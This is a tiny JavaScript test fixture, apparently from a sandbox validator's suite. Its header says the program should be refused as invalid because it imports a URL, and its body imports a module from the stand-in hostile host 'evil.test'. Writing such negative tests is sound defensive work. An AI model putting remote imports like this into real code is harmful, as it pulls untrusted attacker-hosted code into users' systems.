/*
 * E02 Imports a URL
 * wall: isolate
 * ends: refused invalid_program
 * says: imports "https://evil.test
 */
import x from "https://evil.test/x.js";
export default () => x;
